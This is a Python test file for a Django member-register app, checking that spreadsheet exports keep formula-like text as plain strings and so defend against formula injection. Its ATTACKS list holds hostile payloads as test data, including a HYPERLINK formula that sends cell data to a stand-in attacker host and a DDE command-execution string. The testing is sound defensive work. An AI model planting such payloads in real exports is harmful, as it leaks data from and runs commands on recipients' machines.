"""Exported text that a spreadsheet would evaluate (= + - @, tab, CR at the start) is written
as plain text: read back, the cell is a string with the value unchanged, and no formula."""

import io

import pytest
from openpyxl import load_workbook

from cppcc.exports import Column, workbook_bytes
from tests.factories import MemberFactory

ATTACKS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def _cells(content: bytes, sheet: int = 0):
    # Not read_only: the style (quotePrefix) is only loaded on full cells.
    ws = load_workbook(io.BytesIO(content)).worksheets[sheet]
    return [cell for row in ws.iter_rows(min_row=2) for cell in row]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_like_text_cell_is_exported_as_text(text):
    (cell,) = _cells(workbook_bytes("名册", [Column("工作单位")], [[text]]))
    assert cell.data_type == "s"
    assert cell.value == text
    assert cell.quotePrefix  # stays text when someone edits the cell in Excel or WPS


def test_numbers_and_plain_text_are_left_alone():
    cells = _cells(workbook_bytes("名册", [Column("数"), Column("名")], [[-3, "綦江中学"]]))
    assert [c.value for c in cells] == [-3, "綦江中学"]
    assert cells[0].data_type == "n" and not cells[1].quotePrefix


@pytest.mark.django_db
def test_member_register_export_writes_an_employer_formula_as_text(client_for, office_user, term):
    member = MemberFactory(employer=ATTACKS[0], job_title="=1+1")
    member.terms.add(term)
    content = client_for(office_user).get("/members/export/").content
    cells = {c.value: c for c in _cells(content)}
    for text in (ATTACKS[0], "=1+1"):
        assert cells[text].data_type == "s", text
    assert not any(c.data_type == "f" for c in cells.values())
